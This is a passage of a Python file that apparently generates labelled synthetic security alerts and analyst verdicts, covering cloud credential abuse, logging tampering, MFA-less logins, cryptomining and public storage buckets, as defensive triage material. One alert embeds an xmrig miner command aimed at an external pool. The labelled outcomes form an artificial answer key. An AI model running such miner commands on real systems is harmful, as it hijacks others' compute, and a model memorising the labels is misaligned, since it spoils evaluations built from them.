        "deployer SA token is used by the external Argo CD instance (%s is its egress NAT); it patched %s-api during a sync. Expected. Long-term fix ticketed: switch to a projected, short-lived token." % (ip, ns),
        "Argo CD (management cluster, egress %s) syncing %s. Benign, known integration." % (ip, ns),
    ])
    return out("Argo CD deployer token for %s used from %s" % (ns, ip), "informational", ["T1528"], notes, ["create_ticket"])


@scenario("rb-k8s-service-account-token-abuse", "false_positive")
def k8s_sa_node_ip(c):
    cl, env, ns = c.k8s()
    sa = "system:serviceaccount:kube-system:%s" % pick(["aws-node", "ebs-csi-controller-sa", "cluster-autoscaler"])
    ip = int_ip("10.0")
    c.alert("kubernetes-audit", "Service account token used from IP outside pod CIDR", "medium",
            k8s("get", sa, ["system:serviceaccounts"], [ip], "/api/v1/nodes", "nodes", "", ua="cluster-autoscaler/v1.29.0"),
            ents={"service_accounts": [sa], "ips": [ip]}, asset=(env, "medium", "platform-eng"))
    notes = pick([
        "%s runs with hostNetwork, so its source IP is the node address %s rather than a pod IP. Rule didn't account for hostNetwork system pods." % (sa.split(":")[-1], ip),
        "kube-system add-on on hostNetwork in %s; %s is a worker node. FP, excluded hostNetwork system SAs." % (cl, ip),
    ])
    return out("hostNetwork SA %s seen from node %s" % (sa.split(":")[-1], ip), "informational", ["T1528"], notes, ["create_ticket"])


@scenario("rb-cloud-new-access-key", "true_positive")
def new_key_other_user(c):
    name, acct = c.aws()
    u = c.person()
    target = pick(["admin-breakglass", "terraform-admin", "billing-admin", "ops-root-like"])
    ip = ext_ip()
    c.alert("aws-cloudtrail", "Access key created for a different IAM user", "high",
            cloudtrail("CreateAccessKey", "iam.amazonaws.com", assumed(acct, "AWSReservedSSO_PowerUser_%s" % hexs(16), u.email), ip,
                       pick(UA_BROWSER), req={"userName": target},
                       resp={"accessKey": {"accessKeyId": aws_key(), "status": "Active", "userName": target}}),
            ents={"cloud_accounts": [acct], "users": [u.email, target], "ips": [ip]}, asset=("production", "critical", "platform-eng"))
    notes = pick([
        "%s's SSO session (from %s, which matches an AiTM-phished session in the Okta logs) created a key for %s. The user did not do it. Key deleted, SSO session revoked, user password reset, and a permission boundary added so PowerUser can't touch IAM users." % (u.email, ip, target),
        "CreateAccessKey on %s by an SSO PowerUser session from an unfamiliar IP. Persistence attempt: deleted key, revoked %s's sessions, reset creds." % (target, u.sam),
    ])
    return out("Access key minted for %s by %s" % (target, u.sam), "critical", ["T1098.001", "T1078.004"], notes,
               ["delete_resource", "revoke_sessions", "reset_password", "block_indicator"])


@scenario("rb-cloud-new-access-key", "true_positive")
def new_sa_key_gcp(c):
    proj = pick(GCP_PROJECTS)
    u = c.person()
    sa = "%s@%s.iam.gserviceaccount.com" % (pick(["terraform", "org-admin-automation", "billing-export"]), proj)
    ip = ext_ip()
    c.alert("gcp-audit", "Service account key created by user", "high",
            gcp("google.iam.admin.v1.CreateServiceAccountKey", "iam.googleapis.com", u.email, ip,
                "google-cloud-sdk gcloud/467.0.0 command/gcloud.iam.service-accounts.keys.create", proj, "service_account",
                "projects/%s/serviceAccounts/%s" % (proj, sa), req={"private_key_type": "TYPE_GOOGLE_CREDENTIALS_FILE"}),
            ents={"users": [u.email], "service_accounts": [sa], "ips": [ip]}, asset=("production", "high", "platform-eng"))
    notes = pick([
        "Key created for %s by %s from %s, outside the org policy exception window; the user's workstation had an active infostealer detection the day before. Deleted the key, revoked %s's gcloud refresh tokens, enforced constraints/iam.disableServiceAccountKeyCreation at org level." % (sa.split("@")[0], u.email, ip, u.sam),
        "Unauthorised SA key export for %s. The requester's credentials were stolen (see linked infostealer case). Key disabled+deleted, sessions revoked." % sa.split("@")[0],
    ])
    return out("SA key exported for %s in %s" % (sa.split("@")[0], proj), "high", ["T1098.001"], notes,
               ["delete_resource", "revoke_sessions", "change_org_policy"])


@scenario("rb-cloud-new-access-key", "benign")
def new_key_rotation(c):
    name, acct = c.aws()
    sa = pick(["svc-datadog-integration", "svc-snowflake-loader", "partner-sftp-sync"])
    c.alert("aws-cloudtrail", "Access key created for a different IAM user", "medium",
            cloudtrail("CreateAccessKey", "iam.amazonaws.com", assumed(acct, "secrets-rotation-lambda", "rotation-" + alnum(6)), int_ip("10.60"),
                       "aws-internal/3 aws-sdk-java/1.12.x", req={"userName": sa}),
            ents={"cloud_accounts": [acct], "service_accounts": [sa]}, asset=("production", "medium", "platform-eng"))
    notes = pick([
        "Scheduled 90-day rotation by the secrets-rotation Lambda for %s; old key deactivated 15 minutes later as designed." % sa,
        "Rotation Lambda creating the next key for %s. Matches the rotation schedule in Secrets Manager." % sa,
    ])
    return out("Scheduled key rotation for %s" % sa, "informational", ["T1098.001"], notes, [])


@scenario("rb-cloud-new-access-key", "false_positive")
def new_key_self(c):
    name, acct = c.aws("sandbox-dev")
    u = c.person()
    c.alert("aws-cloudtrail", "Access key created for a different IAM user", "medium",
            cloudtrail("CreateAccessKey", "iam.amazonaws.com", iam_user(acct, u.sam), int_ip(), awscli("iam.create-access-key"),
                       req={"userName": u.sam.upper() if chance(0.5) else u.sam.capitalize()}),
            ents={"cloud_accounts": [acct], "users": [u.sam]}, asset=("development", "low", c.team()))
    notes = pick([
        "%s created a key for their own sandbox IAM user in %s; the request used a different letter case for the username and the 'different user' check is case-sensitive. Same principal. Normalisation fixed." % (u.sam, acct),
        "Self-service key in sandbox-dev by %s, flagged by a case mismatch. IAM usernames are case-insensitive. FP." % u.name,
    ])
    return out("Self key creation by %s in sandbox" % u.sam, "informational", ["T1098.001"], notes, ["create_ticket"])


@scenario("rb-cloud-role-assumption-chain", "true_positive")
def role_chain_cross_account(c):
    n1, a1 = c.aws("sandbox-dev")
    n2, a2 = c.aws("prod-payments")
    u = c.person()
    ip = ext_ip()
    c.alert("aws-cloudtrail", "Role chain from sandbox into production account", "critical",
            cloudtrail("AssumeRole", "sts.amazonaws.com", assumed(a1, "sandbox-ci-runner", "i-" + hexs(17)), ip, attack_ua("sts.assume-role"),
                       req={"roleArn": "arn:aws:iam::%s:role/OrganizationAccountAccessRole" % a2, "roleSessionName": "test"}),
            ents={"cloud_accounts": [a1, a2], "ips": [ip]}, asset=("production", "critical", "payments-team"))
    c.alert("aws-cloudtrail", "Chained session enumerating production data stores", "high",
            cloudtrail("DescribeDBInstances", "rds.amazonaws.com", assumed(a2, "OrganizationAccountAccessRole", "test"), ip,
                       attack_ua("rds.describe-db-instances"), ro=True), off=2,
            ents={"cloud_accounts": [a2], "ips": [ip]}, asset=("production", "critical", "payments-team"))
    notes = pick([
        "Instance credentials from the sandbox CI runner (stolen via IMDSv1 from an exposed Jupyter) were used from %s to hop into %s via OrganizationAccountAccessRole, whose trust still allowed the whole org. Removed that trust, revoked active sessions with an aws:TokenIssueTime deny, and enforced IMDSv2." % (ip, a2),
        "sandbox-ci-runner in %s -> OrganizationAccountAccessRole in prod-payments (%s), called from %s outside AWS with session name 'test'. Confirmed malicious; session revocation policy applied, trust narrowed, runner terminated." % (a1, a2, ip),
    ])
    return out("Sandbox-to-prod role chain into %s from %s" % (a2, ip), "critical", ["T1078.004", "T1550.001", "T1552.005"], notes,
               ["contain_cloud_resource", "revoke_sessions", "change_org_policy", "block_indicator"])


@scenario("rb-cloud-role-assumption-chain", "benign")
def role_chain_landing_zone(c):
    n1, a1 = c.aws("shared-services")
    n2, a2 = c.aws()
    sess = "atlantis-" + alnum(6)
    c.alert("aws-cloudtrail", "Unusual chained AssumeRole depth", "medium",
            cloudtrail("AssumeRole", "sts.amazonaws.com", assumed(a1, "terraform-pipeline", sess), int_ip("10.60"),
                       pick(UA_BOTO), req={"roleArn": "arn:aws:iam::%s:role/terraform-apply" % a2, "roleSessionName": "atlantis-plan"}),
            ents={"cloud_accounts": [a1, a2]}, asset=("production", "medium", "platform-eng"))
    notes = pick([
        "Session %s is Atlantis in shared-services (%s) hopping into terraform-apply in %s; three-deep chaining is how the landing zone is built. Private subnet source." % (sess, a1, n2),
        "terraform-pipeline -> terraform-apply in %s (%s). Hub-and-spoke Terraform, plan run for a PR. Benign." % (n2, a2),
    ])
    return out("Terraform hub chaining into %s (%s)" % (n2, sess), "informational", ["T1550.001"], notes, [])


@scenario("rb-cloud-role-assumption-chain", "false_positive")
def role_chain_vendor(c):
    n2, a2 = c.aws()
    ext = "".join(rng.choice(string.digits) for _ in range(12))
    role = pick(["wiz-scanner", "datadog-integration", "vanta-auditor"])
    c.alert("aws-cloudtrail", "AssumeRole from external account", "medium",
            cloudtrail("AssumeRole", "sts.amazonaws.com", {"type": "AWSAccount", "principalId": "AIDA" + upper_alnum(17), "accountId": ext},
                       ext_ip(), "aws-sdk-go/1.50.0", req={"roleArn": "arn:aws:iam::%s:role/%s" % (a2, role), "externalId": "****"}, acct=a2),
            ents={"cloud_accounts": [a2, ext]}, asset=("production", "low", "secops"))
    notes = pick([
        "%s is assumed by the vendor's new AWS account %s; role is read-only and requires our externalId. Vendor emailed about the account move last week; allowlist updated after confirming with their support." % (role, ext),
        "Third-party %s role in %s assumed from %s, the vendor's new account per their notice. Not cross-account abuse." % (role, n2, ext),
    ])
    return out("%s assumed from vendor's new account %s" % (role, ext), "informational", ["T1550.001"], notes, ["create_ticket"])


@scenario("rb-cloud-iam-policy-change", "true_positive")
def iam_admin_attach(c):
    name, acct = c.aws()
    u = c.person()
    ip = ext_ip()
    role = pick(["lambda-image-resize", "ecs-task-reporting", "glue-crawler"])
    c.alert("aws-cloudtrail", "AdministratorAccess attached to workload role", "critical",
            cloudtrail("AttachRolePolicy", "iam.amazonaws.com", assumed(acct, role, "i-" + hexs(17)), ip, attack_ua("iam.attach-role-policy"),
                       req={"roleName": role, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
            ents={"cloud_accounts": [acct], "ips": [ip]}, asset=("production", "critical", c.team()))
    notes = pick([
        "Role %s attached AdministratorAccess to itself (it had iam:AttachRolePolicy on * from an over-broad policy), called from %s. That IP also appears in WAF logs exploiting the upload endpoint. Detached, removed the IAM permission, revoked role sessions." % (role, ip),
        "Self-escalation by %s in %s: AdministratorAccess attached from %s, outside AWS, using the workload's own credentials. Detached, applied a token-issue-time deny to kill live sessions, contained the workload." % (role, acct, ip),
    ])
    return out("Role %s self-attached AdministratorAccess in %s" % (role, name), "critical", ["T1098.003", "T1078.004"], notes,
               ["contain_cloud_resource", "revoke_sessions", "block_indicator"])


@scenario("rb-cloud-iam-policy-change", "true_positive")
def iam_azure_owner(c):
    sub = AZ_SUBS["corp-prod"]
    u = c.person()
    ip = ext_ip()
    c.alert("azure-activity", "Owner role assigned at subscription scope", "high",
            azact("Microsoft.Authorization/roleAssignments/write", u.upn, ip, sub, "", "Microsoft.Authorization/roleAssignments/" + guid(),
                  props={"requestbody": json.dumps({"properties": {"roleDefinitionId": "/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635",
                                                                   "principalId": guid(), "principalType": "User"}})}),
            ents={"users": [u.upn], "ips": [ip], "cloud_accounts": [sub]}, asset=("production", "critical", "platform-eng"))
    guest = "ext_%s#EXT#@example.onmicrosoft.com" % alnum(6)
    notes = pick([
        "%s (compromised via token theft, see linked case) granted Owner on corp-prod to a newly invited guest %s. Removed the assignment and the guest, revoked %s's sessions, and required PIM activation for Owner." % (u.upn, guest, u.sam),
        "Owner on the production subscription assigned outside PIM from %s. User denied doing it. Assignment removed, sessions revoked, password reset." % ip,
    ])
    return out("Subscription Owner granted outside PIM by %s" % u.sam, "high", ["T1098.003", "T1136.003"], notes,
               ["delete_resource", "revoke_sessions", "reset_password"])


@scenario("rb-cloud-iam-policy-change", "benign")
def iam_breakglass_drill(c):
    name, acct = c.aws()
    u = c.person()
    ch = chg()
    c.alert("aws-cloudtrail", "AdministratorAccess attached to user", "high",
            cloudtrail("AttachUserPolicy", "iam.amazonaws.com", assumed(acct, "AWSReservedSSO_SecurityAdmin_" + hexs(16), u.email),
                       int_ip(), pick(UA_BROWSER), req={"userName": "breakglass-01", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
            ents={"cloud_accounts": [acct], "users": [u.email]}, asset=("production", "critical", "secops"))
    notes = pick([
        "Quarterly break-glass drill %s in %s: %s attached admin to breakglass-01, signed in with the hardware token from the safe, and DetachUserPolicy followed 18 minutes later." % (ch, name, u.email),
        "Planned exercise (%s). Attach and detach both present for breakglass-01 in %s; credentials resealed and the envelope log signed by two people." % (ch, acct),
    ])
    return out("Break-glass drill %s in %s" % (ch, name), "informational", ["T1098.003"], notes, [])


@scenario("rb-cloud-iam-policy-change", "false_positive")
def iam_tf_reapply(c):
    name, acct = c.aws()
    pr = rng.randint(900, 4800)
    c.alert("aws-cloudtrail", "Privileged policy attached to role", "medium",
            cloudtrail("PutRolePolicy", "iam.amazonaws.com", assumed(acct, "terraform-apply", "atlantis-apply"), int_ip("10.60"), pick(UA_BOTO),
                       req={"roleName": "eks-node-group", "policyName": "eks-node-extra", "policyDocument": "{\"Statement\":[{\"Action\":[\"ec2:Describe*\"],\"Effect\":\"Allow\",\"Resource\":\"*\"}]}"}),
            ents={"cloud_accounts": [acct]}, asset=("production", "medium", "platform-eng"))
    notes = pick([
        "The wildcard the rule matched is ec2:Describe* in eks-node-extra on the node-group role in %s, applied by Atlantis from infra-terraform PR #%d. Read-only, no privilege change. Rule adjusted to weigh write actions." % (name, pr),
        "Terraform re-applied an unchanged read-only inline policy (eks-node-extra) in %s. Atlantis session, merged PR #%d. FP." % (acct, pr),
    ])
    return out("Terraform re-applied eks-node-extra in %s" % name, "informational", ["T1098.003"], notes, [])


# ===================================== cloud control plane ===========================

@scenario("rb-cloud-logging-disabled", "true_positive")
def ct_stop_logging(c):
    name, acct = c.aws()
    ip = ext_ip()
    role = pick(["ec2-app-role", "lambda-etl", "jenkins-agent"])
    c.alert("aws-cloudtrail", "CloudTrail logging stopped", "critical",
            cloudtrail("StopLogging", "cloudtrail.amazonaws.com", assumed(acct, role, "i-" + hexs(17)), ip, attack_ua("cloudtrail.stop-logging"),
                       req={"name": "arn:aws:cloudtrail:us-east-1:%s:trail/account-trail" % acct}),
            ents={"cloud_accounts": [acct], "ips": [ip]}, asset=("production", "critical", "secops"))
    c.alert("aws-cloudtrail", "GuardDuty detector deleted", "critical",
            cloudtrail("DeleteDetector", "guardduty.amazonaws.com", assumed(acct, role, "i-" + hexs(17)), ip, attack_ua("guardduty.delete-detector"),
                       req={"detectorId": hexs(32)}, err=("AccessDenied", "explicit deny in a service control policy")), off=1,
            ents={"cloud_accounts": [acct], "ips": [ip]}, asset=("production", "critical", "secops"))
    notes = pick([
        "%s, an instance role, stopped the account-local trail from %s and then tried to delete GuardDuty (SCP denied). The org trail kept recording, which is how we saw it. Restarted logging, contained the instance, rotated role creds, and added StopLogging to the SCP deny list for all roles." % (role, ip),
        "Defense evasion from stolen instance credentials of %s used outside AWS. Trail restarted within 6 minutes; gap reconstructed from the org trail. Instance isolated via security group." % role,
    ])
    return out("CloudTrail stopped by %s in %s" % (role, name), "critical", ["T1562.008", "T1078.004", "T1552.005"], notes,
               ["contain_cloud_resource", "revoke_sessions", "change_org_policy", "collect_forensics"])


@scenario("rb-cloud-logging-disabled", "true_positive")
def gcp_sink_delete(c):
    proj = pick(GCP_PROJECTS)
    u = c.person()
    ip = ext_ip()
    c.alert("gcp-audit", "Log sink deleted or exclusion added", "high",
            gcp("google.logging.v2.ConfigServiceV2.UpdateSink", "logging.googleapis.com", u.email, ip,
                "google-cloud-sdk gcloud/471.0.0 command/gcloud.logging.sinks.update", proj, "logging_sink",
                "projects/%s/sinks/siem-export" % proj, req={"sink": {"filter": "NOT protoPayload.serviceName=\"storage.googleapis.com\""}}),
            ents={"users": [u.email], "ips": [ip]}, asset=("production", "high", "secops"))
    notes = pick([
        "The SIEM export sink in %s was edited by %s to drop all Cloud Storage audit events, from an IP tied to a session the user says isn't theirs. Data-access logs show bucket reads right after. Reverted the filter, revoked sessions, opened a storage investigation." % (proj, u.email),
        "Sink filter tampering to blind storage auditing, performed with %s's credentials from %s. Reverted, locked sink config behind org policy, reset creds." % (u.sam, ip),
    ])
    return out("SIEM log sink filter tampered in %s" % proj, "high", ["T1562.008"], notes,
               ["revoke_sessions", "reset_password", "change_org_policy"])


@scenario("rb-cloud-logging-disabled", "benign")
def ct_trail_migration(c):
    name, acct = c.aws()
    c.alert("aws-cloudtrail", "CloudTrail trail deleted", "high",
            cloudtrail("DeleteTrail", "cloudtrail.amazonaws.com", assumed(acct, "terraform-apply", "atlantis-apply"), int_ip("10.60"), pick(UA_BOTO),
                       req={"name": "legacy-account-trail"}),
            ents={"cloud_accounts": [acct]}, asset=("production", "medium", "secops"))
    notes = pick([
        "legacy-account-trail in %s (%s) removed by Terraform as part of the org-trail migration (%s). Checked the org trail: events from this account have been landing in log-archive for three weeks." % (name, acct, chg()),
        "Per-account trail deletion in %s was planned; org trail is active and covers the account. Expected." % acct,
    ])
    return out("Legacy trail removed in %s" % name, "informational", ["T1562.008"], notes, [])


@scenario("rb-cloud-logging-disabled", "false_positive")
def azure_diag_update(c):
    sub = pick(list(AZ_SUBS.values()))
    u = c.person()
    c.alert("azure-activity", "Diagnostic setting deleted", "medium",
            azact("microsoft.insights/diagnosticSettings/delete", u.upn, int_ip(), sub, "rg-monitoring", "Microsoft.Insights/diagnosticSettings/old-la-export"),
            ents={"users": [u.upn], "cloud_accounts": [sub]}, asset=("production", "low", "sre"))
    notes = pick([
        "%s deleted old-la-export in subscription %s and created law-export-v2 to the same Log Analytics workspace two minutes later (write event present). Net coverage unchanged." % (u.upn, sub[:8]),
        "Setting swap, not removal: the replacement diagnostic setting by %s carries the same categories. Rule should pair delete with a following create; ticket raised." % u.name,
    ])
    return out("Diagnostic setting swap by %s in %s" % (u.sam, sub[:8]), "informational", ["T1562.008"], notes, ["create_ticket"])


@scenario("rb-console-login-without-mfa", "true_positive")
def root_login_nomfa(c):
    name, acct = c.aws(pick(["sandbox-dev", "ml-training", "staging"]))
    ip = ext_ip()
    c.alert("aws-cloudtrail", "Root console sign-in without MFA", "critical",
            dict(cloudtrail("ConsoleLogin", "signin.amazonaws.com", root_id(acct), ip, pick(UA_BROWSER), region="us-east-1",
                            resp={"ConsoleLogin": "Success"}), eventType="AwsConsoleSignIn",
                 additionalEventData={"MFAUsed": "No", "LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No"}),
            ents={"cloud_accounts": [acct], "ips": [ip]}, asset=("staging", "high", "platform-eng"))
    c.alert("aws-cloudtrail", "Root user modified billing / contact settings", "high",
            cloudtrail("PutAlternateContact", "account.amazonaws.com", root_id(acct), ip, pick(UA_BROWSER),
                       req={"alternateContactType": "SECURITY", "emailAddress": "sec-%s@example.net" % alnum(5)}), off=6,
            ents={"cloud_accounts": [acct], "ips": [ip]}, asset=("staging", "high", "platform-eng"))
    notes = pick([
        "Root for %s (%s) had no MFA because it was a legacy standalone account folded into the org last year; password reset via the root mailbox, which was compromised. Attacker changed the security contact. Reset root password, enrolled hardware MFA, restored contact, and added the account to the root-access central management." % (name, acct),
        "Root sign-in without MFA from %s followed by a security contact change to an outside address. Account recovered, root MFA enforced, contact restored." % ip,
    ])
    return out("Root console login without MFA in %s" % name, "critical", ["T1078.004", "T1078.001"], notes,
               ["reset_password", "revoke_sessions", "change_org_policy", "block_indicator"])


@scenario("rb-console-login-without-mfa", "true_positive")
def azure_ga_nomfa(c):
    u = c.person()
    ip = ext_ip()
    city, cc = pick(CITIES_FAR)
    c.alert("entra-id", "Privileged role holder signed in without MFA", "high",
            entra_signin(u, "Azure Portal", ip, city, cc, ca="notApplied", authreq="singleFactorAuthentication", risk="medium",
                         extra={"appliedConditionalAccessPolicies": [{"displayName": "Require MFA for admins", "result": "notApplied",
                                                                      "excludeRulesSatisfied": ["excludedUsers"]}]}),
            ents={"users": [u.upn], "ips": [ip]}, asset=("production", "critical", "identity-team"))
    notes = pick([
        "%s holds Global Admin and was in the 'MFA exclusion - migration' group left over from a 2023 project. Sign-in from %s (%s) with password only; the user was asleep. Revoked sessions, reset password, removed the exclusion group entirely." % (u.upn, ip, city),
        "Global Admin sign-in for %s from %s with password only, thanks to a stale CA exclusion group. The user was not travelling and denies it. Sessions revoked, password reset, exclusion deleted." % (u.upn, ip),
    ])
    return out("Global Admin %s signed in without MFA from %s" % (u.sam, cc), "critical", ["T1078.004"], notes,
               ["revoke_sessions", "reset_password", "change_org_policy"])


@scenario("rb-console-login-without-mfa", "benign")
def console_nomfa_sso_federated(c):
    name, acct = c.aws()
    u = c.person()
    c.alert("aws-cloudtrail", "Console sign-in without MFA", "medium",
            dict(cloudtrail("ConsoleLogin", "signin.amazonaws.com", assumed(acct, "AWSReservedSSO_ReadOnly_" + hexs(16), u.email), ext_ip(),
                            pick(UA_BROWSER), resp={"ConsoleLogin": "Success"}), additionalEventData={"MFAUsed": "No"}),
            ents={"cloud_accounts": [acct], "users": [u.email]}, asset=("production", "low", c.team()))
    notes = pick([
        "Identity Center login for %s into %s. MFAUsed=No is always reported for federated sessions because MFA happens at the IdP; Okta shows a verified push for the same user 40 seconds earlier." % (u.email, name),
        "Federated ReadOnly session in %s for %s; MFA was satisfied in Okta. Excluded AWSReservedSSO principals from the no-MFA rule." % (acct, u.sam),
    ])
    return out("Federated console login for %s in %s" % (u.sam, name), "informational", ["T1078.004"], notes, ["create_ticket"])


@scenario("rb-console-login-without-mfa", "false_positive")
def console_nomfa_failed(c):
    name, acct = c.aws()
    ip = ext_ip()
    c.alert("aws-cloudtrail", "Root console sign-in without MFA", "high",
            dict(cloudtrail("ConsoleLogin", "signin.amazonaws.com", root_id(acct), ip, pick(UA_BROWSER),
                            resp={"ConsoleLogin": "Failure"}, err=("Failed authentication", "Failed authentication")), additionalEventData={"MFAUsed": "No"}),
            ents={"cloud_accounts": [acct], "ips": [ip]}, asset=("production", "high", "platform-eng"))
    notes = pick([
        "Root login attempt failed at the password step (ConsoleLogin=Failure), so MFA never came into play. Single attempt from %s. Rule should require Success; fixed. Root password is 64 chars in the vault." % ip,
        "Failed root password attempt, not a successful MFA-less login. Logged, no further activity from %s." % ip,
    ])
    return out("Failed root login attempt in %s" % name, "low", ["T1078.004"], notes, ["create_ticket"])


@scenario("rb-cloud-cryptomining", "true_positive")
def mining_gpu_fleet(c):
    name, acct = c.aws()
    ip = ext_ip()
    region = pick(AWS_REGIONS_UNUSED)
    n = rng.randint(8, 40)
    it = pick(["p3.16xlarge", "g4dn.12xlarge", "g5.48xlarge", "p4d.24xlarge"])
    c.alert("aws-cloudtrail", "Burst of GPU instance launches", "critical",
            cloudtrail("RunInstances", "ec2.amazonaws.com", iam_user(acct, pick(["ci-deployer", "dev-jchen", "mlops-bot"])), ip,
                       attack_ua("ec2.run-instances"), region=region,
                       req={"instanceType": it, "minCount": n, "maxCount": n, "imageId": "ami-" + hexs(17),
                            "userData": "<sensitiveDataRemoved>"}),
            ents={"cloud_accounts": [acct], "ips": [ip]}, asset=("production", "high", c.team()))
    pool = "%s.%s" % (pick(["pool", "xmr", "rx", "stratum"]), pick(["minexample.example", "hashpool.example.net"]))
    c.alert("aws-guardduty", "CryptoCurrency:EC2/BitcoinTool.B!DNS", "high",
            {"type": "CryptoCurrency:EC2/BitcoinTool.B!DNS", "severity": 8.0, "region": region, "accountId": acct,
             "resource": {"instanceDetails": {"instanceId": "i-" + hexs(17), "instanceType": it}},
             "service": {"action": {"dnsRequestAction": {"domain": pool, "protocol": "UDP", "blocked": False}}, "count": rng.randint(50, 900)},
             "updatedAt": "__T__"},
            off=rng.randint(8, 30), ents={"cloud_accounts": [acct], "urls": [pool]}, asset=("production", "high", c.team()))
    notes = pick([
        "%d x %s launched in %s (a region we never use) from %s with a leaked CI key, instances resolving %s. Terminated all instances, deleted the key, added an SCP region deny, and opened a billing case with AWS for the ~$%d spend." % (n, it, region, ip, pool, rng.randint(800, 9000)),
        "Cryptojacking in %s (%s): %s fleet in %s resolving %s. Terminated instances, disabled the IAM user whose key was committed to a public repo, blocked %s." % (name, acct, it, region, pool, ip),
    ])
    return out("GPU mining fleet (%d x %s) in %s" % (n, it, region), "critical", ["T1496.001", "T1578.002", "T1535"], notes,
               ["delete_resource", "revoke_token", "change_org_policy", "block_indicator"])


@scenario("rb-cloud-cryptomining", "true_positive")
def mining_k8s_pod(c):
    cl, env, ns = c.k8s()
    pod = c.pod(pick(["kube-metrics", "system-update", "nginx-cache"]))
    ip = ext_ip()
    c.alert("falco", "Detect outbound connections to common miner pool ports", "critical",
            falco("Detect outbound connections to common miner pool ports", "Critical",
                  "Outbound connection to IP/Port flagged by mining pool list (connection=%s:%d)" % (ip, pick([3333, 4444, 14444, 5555])),
                  {"k8s.ns.name": ns, "k8s.pod.name": pod, "proc.cmdline": "./xmrig -o %s:3333 -u 4%s --cpu-max-threads-hint=90" % (ip, alnum(30)),
                   "container.image.repository": "docker.io/%s/%s" % (alnum(7), pick(["alpine-tools", "nginx"])), "k8s.node.name": "gke-%s-pool-%s" % (cl, alnum(4))}),
            ents={"hosts": [pod], "ips": [ip]}, asset=(env, "high", c.team()))
    notes = pick([
        "xmrig in pod %s (namespace %s) from an image pulled from a random Docker Hub account; created through an exposed Kubeflow dashboard with no auth. Deleted the pod, locked the dashboard behind IAP, added an admission policy for allowed registries." % (pod, ns),
        "Miner pod %s on %s. Image not from our registry. Quarantined namespace, killed workload, tightened registry allowlist." % (pod, cl),
    ])
    return out("xmrig miner pod in %s/%s" % (cl, ns), "high", ["T1496.001", "T1610"], notes,
               ["quarantine_workload", "delete_resource", "block_indicator", "change_org_policy"])


@scenario("rb-cloud-cryptomining", "benign")
def mining_ml_training(c):
    name, acct = c.aws("ml-training")
    u = c.person()
    job = "%s-llm-ft-%s" % (u.sam, alnum(4))
    c.alert("aws-cloudtrail", "Burst of GPU instance launches", "medium",
            cloudtrail("CreateTrainingJob", "sagemaker.amazonaws.com", assumed(acct, "AWSReservedSSO_MLEngineer_" + hexs(16), u.email), int_ip("10.60"),
                       pick(UA_BOTO), region="us-west-2", req={"trainingJobName": job, "resourceConfig": {"instanceType": "ml.p4d.24xlarge", "instanceCount": 8}}),
            ents={"cloud_accounts": [acct], "users": [u.email]}, asset=("production", "medium", "ml-platform"))
    notes = pick([
        "SageMaker job %s started by %s in ml-training (%s), us-west-2, using the p4d quota approved last week. GPUs are doing what the account exists for." % (job, u.email, acct),
        "GPU burst is training job %s from the ML engineer SSO role (%s). Approved account and region, within budget alarms." % (job, u.name),
    ])
    return out("SageMaker training job %s" % job, "informational", ["T1496.001"], notes, [])


@scenario("rb-cloud-cryptomining", "false_positive")
def mining_dns_false(c):
    host = c.ws()
    u = c.person()
    dom = pick(["coinbase.com", "binance.com", "kraken.com"])
    c.alert("zeek", "Host resolved cryptocurrency-related domain", "medium",
            zeek_dns(int_ip("10.20"), "api." + dom, answers=[ext_ip()]),
            ents={"hosts": [host], "users": [u.win], "urls": ["api." + dom]}, asset=("corporate", "low", "finance-systems"))
    notes = pick([
        "%s (%s, treasury) resolves api.%s because the FX dashboard pulls spot prices from it. HTTPS REST only, no stratum ports, CPU normal. Not mining." % (host, u.sam, dom),
        "Exchange API lookup from %s for rate data used by treasury; no pool domains or mining process. FP." % host,
    ])
    return out("Exchange API lookup from %s" % host, "informational", ["T1496.001"], notes, [])


@scenario("rb-public-storage-bucket", "true_positive")
def bucket_public_acl(c):
    name, acct = c.aws()
    u = c.person()
    bucket = pick(["exm-customer-exports", "exm-hr-docs", "exm-prod-db-backups", "exm-invoices-archive"])
    c.alert("aws-cloudtrail", "S3 Block Public Access removed and bucket policy allows *", "critical",
            cloudtrail("PutBucketPolicy", "s3.amazonaws.com", assumed(acct, "AWSReservedSSO_PowerUser_" + hexs(16), u.email), int_ip(), pick(UA_BROWSER),
                       req={"bucketName": bucket, "bucketPolicy": {"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject",
                                                                                  "Resource": "arn:aws:s3:::%s/*" % bucket}]}}),
            ents={"cloud_accounts": [acct], "users": [u.email]}, asset=("production", "critical", c.team()))
    c.alert("aws-cloudtrail", "Anonymous GetObject on sensitive bucket", "high",
            cloudtrail("GetObject", "s3.amazonaws.com", {"type": "AWSAccount", "principalId": "ANONYMOUS_PRINCIPAL", "accountId": "anonymous"},
                       ext_ip(), "python-requests/2.31.0", req={"bucketName": bucket, "key": "exports/%s.csv" % alnum(8)}, acct=acct, ro=True),
            off=rng.randint(30, 300), ents={"cloud_accounts": [acct]}, asset=("production", "critical", c.team()))
    notes = pick([
        "%s made %s public to share one file with an agency and forgot to revert; anonymous GetObject from an unknown scraper followed. Reverted the policy, restored Block Public Access at account level, and privacy reviewed the downloaded keys (4 objects with customer PII)." % (u.name, bucket),
        "%s in %s was public for %d minutes after %s's policy change and anonymous GetObject calls followed. Locked down, account-level Block Public Access enforced via SCP, data-breach assessment opened." % (bucket, acct, rng.randint(35, 400), u.email),
    ])
    return out("%s made public by %s and read anonymously" % (bucket, u.sam), "critical", ["T1530"], notes,
               ["contain_cloud_resource", "change_org_policy", "notify_owner", "create_ticket"])


@scenario("rb-public-storage-bucket", "true_positive")
def blob_public_azure(c):
    sub = AZ_SUBS["analytics"]
    u = c.person()
    acctname = "exm%sblob" % pick(["analytics", "reports", "exports"])
    c.alert("azure-activity", "Storage container public access level set to Container", "high",
            azact("Microsoft.Storage/storageAccounts/blobServices/containers/write", u.upn, ext_ip(), sub, "rg-analytics",
                  "Microsoft.Storage/storageAccounts/%s/blobServices/default/containers/daily-extracts" % acctname,
                  props={"publicAccess": "Container"}),
            ents={"users": [u.upn], "cloud_accounts": [sub]}, asset=("production", "high", "data-eng"))
    notes = pick([
